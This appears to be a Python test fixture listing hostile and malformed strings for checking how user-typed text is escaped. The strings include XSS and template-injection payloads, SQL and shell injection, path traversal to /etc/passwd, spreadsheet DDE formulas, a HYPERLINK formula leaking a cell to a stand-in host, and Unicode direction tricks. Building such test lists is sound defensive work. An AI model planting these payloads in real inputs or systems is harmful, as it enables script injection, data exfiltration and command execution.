"""What may stand in a name, a title or a comment that somebody typed, pasted or sent on purpose?"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Word:
    """One text, and what it would do where text is not taken for text."""

    text: str
    why: str


WORDS: tuple[Word, ...] = (
    # HTML: what would run or load
    Word("<script>window.__pwned=1</script>", "a script"),
    Word('"><script>window.__pwned=1</script>', "a script after a quoted attribute"),
    Word("'><img src=x onerror=window.__pwned=1>", "a handler after a single quote"),
    Word('<img src="https://evil.invalid/a.png">', "a picture that tells who has opened the page"),
    Word("<svg/onload=window.__pwned=1>", "a drawing that runs when it is loaded"),
    Word('<svg><a xlink:href="javascript:window.__pwned=1"><text y="9">x</text></a></svg>', "a link in a drawing"),
    Word("<math><mtext></mtext><mglyph><style><img src=x onerror=window.__pwned=1>", "mutation of the parser"),
    Word("<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>", "a second reading without scripts"),
    Word('<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>', "a page in the page"),
    Word('<a href="javascript:window.__pwned=1">here</a>', "an address that runs"),
    Word('<a href="data:text/html,<script>window.__pwned=1</script>">here</a>', "an address that is a page"),
    Word('<base href="https://evil.invalid/"><form action="/x"><input autofocus onfocus=window.__pwned=1>', "a form"),
    Word('<meta http-equiv="refresh" content="0;url=https://evil.invalid/">', "leads away by itself"),
    Word('<link rel="stylesheet" href="//evil.invalid/a.css">', "a style from outside"),
    Word("<style>*{display:none}body{background:url(https://evil.invalid/b)}</style>", "hides the page"),
    Word("</script><script>window.__pwned=1</script>", "ends the script of the page"),
    Word("</style></head><body onload=window.__pwned=1>", "ends the style of the page"),
    Word("</title></main></body></html>", "ends the document"),
    Word("<!-- -- ><!--", "opens a comment"),
    Word("-->]]><![CDATA[", "ends a comment and a section of XML"),
    Word("<h2>Verdict: scale</h2><table><tr><td>", "a heading and a table that is not closed"),
    Word("<button popovertarget=tip-grade onclick=window.__pwned=1>A</button>", "a button of the page's own kind"),
    Word("<details open ontoggle=window.__pwned=1><summary>", "runs when it opens"),
    Word("&lt;script&gt;window.__pwned=1&lt;/script&gt;", "entities that somebody decodes twice"),
    Word("&amp;&#0;&#x202e;&nbsp;&notit;", "entities without an end"),
    Word("x\" style=\"position:fixed;inset:0\" onmouseover=\"window.__pwned=1", "attributes without a tag"),
    Word("javascript:window.__pwned=1//", "an address alone"),
    Word("expression(window.__pwned=1); background:url('javascript:window.__pwned=1')", "a style alone"),
    # templates, formats and languages of the tools that the text passes
    Word("{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "a template of Jinja"),
    Word("${window.__pwned=1}`+window.__pwned=1+`", "a template of JavaScript"),
    Word("%s%n%d %(market)s %", "a format of C"),
    Word("{0.__class__} {min_n!r} {} {market", "a format of Python"),
    Word("**bold** [here](javascript:window.__pwned=1) ![](https://evil.invalid/c.png)", "Markdown"),
    Word("# Verdict\n\n| a | b |\n|---|---|", "a heading and a table of Markdown"),
    Word(r"$\frac{1}{2}$ \input{/etc/passwd} $$\unicode{x41}$$", "LaTeX and mathtext"),
    Word(r"$\frac{", "mathtext that does not end"),
    Word("a $ b", "one dollar"),
    Word("_nolegend_", "a label that a drawing leaves out"),
    Word(r"C:\new\table\x41 \u0041 \N{BULLET}", "backslashes"),
    Word('"; import os; os.system("touch pwned") #', "ends a string of Python"),
    Word('"""\nraise SystemExit\n"""', "ends a long string of Python"),
    Word("'; DROP TABLE audits; --", "ends a string of SQL"),
    Word('{"$schema": 1, "a": [}', "broken JSON"),
    Word("_x0041_ _x000D_ _x001B_", "how office files write signs that XML lacks"),
    Word("$(touch pwned) `touch pwned` | touch pwned & touch pwned", "a shell"),
    Word("../../../../etc/passwd", "a path that climbs"),
    Word("CON.html:stream?*|<>", "what no file may be called"),
    # spreadsheets
    Word("=HYPERLINK(\"https://evil.invalid/?\"&A1,\"here\")", "a formula"),
    Word("+cmd|' /C calc'!A0", "a formula that starts a program (DDE)"),
    Word("-2+3+cmd|' /C calc'!A0", "a formula that begins as a number"),
    Word("@SUM(1+1)*cmd|' /C calc'!A0", "a formula by its at sign"),
    Word("\t=1+1", "a formula after a tab"),
    Word("\r=1+1", "a formula after a carriage return"),
    Word("\n=1+1", "a formula in a line of its own"),
    Word('a;=1+1;"b', "a formula where semicolons part the cells"),
    Word("＝1+1", "a formula by a wide sign"),
    # characters
    Word("\u202egnp.exe\u202c \u202elater words turn round", "the direction of all that follows"),
    Word("\u2067\u2067\u2066 isolates that nobody ends", "isolates without an end"),
    Word("שלום عليكم 12-34", "words from right to left, with numbers"),
    Word("\u200b\ufeff\u2060", "nothing that can be seen"),
    Word("a\x00b\x07c\x1b[2J\x1b]0;pwned\x07\x9b31m\x7f", "signs that a terminal obeys, and NUL"),
    Word("Z" + "\u0300\u0316\u0334\u035c" * 60 + "algo", "a stack of accents"),
    Word("W" * 10_000, "one word of ten thousand letters"),
    Word("👩‍👩‍👧‍👦🏳️‍🌈\U000e0041\U000e007f раураl.com", "joined emoji, tags, letters that look like others"),
    Word("\u2028\u2029\x85\v\f lines", "what ends a line in some languages"),
    Word("﷽﷽﷽﷽", "letters as wide as a line"),
    # what programs take for something else
    Word("someone@evil.invalid <mailto:someone@evil.invalid>", "an address of mail"),
    Word("https://evil.invalid/ www.evil.invalid internal:'A'!A1 file:///etc/passwd", "addresses that become links"),
    Word("12345678901234567890123456789012345678901234567890", "a number longer than any"),
    Word("1e400 -0 007 NaN null TRUE", "numbers and nothing"),
    Word("3/4 1-2 MAR1 2026-02-30", "dates"),
    Word("a,b;c|d\t\"e\"", "what parts and quotes cells"),
)  # fmt: skip
